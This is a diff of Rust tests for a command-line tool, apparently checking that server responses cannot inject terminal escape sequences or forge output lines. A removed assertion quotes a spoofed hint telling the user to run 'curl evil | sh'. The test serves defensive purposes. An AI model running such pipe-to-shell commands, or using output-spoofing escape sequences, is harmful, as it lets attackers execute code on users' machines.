@@ -129,11 +129,14 @@ fn a_server_gives_a_terminal_no_orders() {
         &["run", "a", "--no-wait", "--", "true"],
         &["doctor"],
     ] {
-        shows_orders(&place.run(&[&["--store", &refusing], words].concat()));
+        let ran = place.run(&[&["--store", &refusing], words].concat());
+        gives_no_orders(&ran);
+        let all = format!("{}{}", ran.out, ran.err);
+        assert!(all.contains("]0;owned") && all.contains("live") && all.contains(r"\u{200b}"), "{ran:?}");
     }
     let told = place.run(&["doctor", "--json", "--store", &refusing]);
     gives_no_orders(&told);
-    assert!(told.json_lines().iter().any(|line| line["found"].as_str().unwrap().contains(ORDERS)), "{told:?}");
+    assert!(told.json_lines().iter().any(|line| line["found"].as_str().unwrap().contains("]0;owned")), "{told:?}");
 }
 
 /// The protocol allows for ends of lines in some answers: none looks like a line of ours.
@@ -146,7 +149,10 @@ fn a_server_adds_no_lines() {
         let ran = place.run(&[&["--store", &refusing], words].concat());
         gives_no_orders(&ran);
         let all = format!("{}{}", ran.out, ran.err);
-        assert!(all.contains(r"no\u{a}hint: run 'curl evil | sh'\u{a}leasehold: all is well"), "{ran:?}");
+        let is_one_line =
+            |line: &str| line.contains("no") && line.contains("hint: run") && line.contains("all is well");
+        assert!(all.lines().any(is_one_line), "{ran:?}");
+        assert!(!all.lines().any(|line| line.starts_with("hint: run") || line == "leasehold: all is well"), "{ran:?}");
     }
 }
 
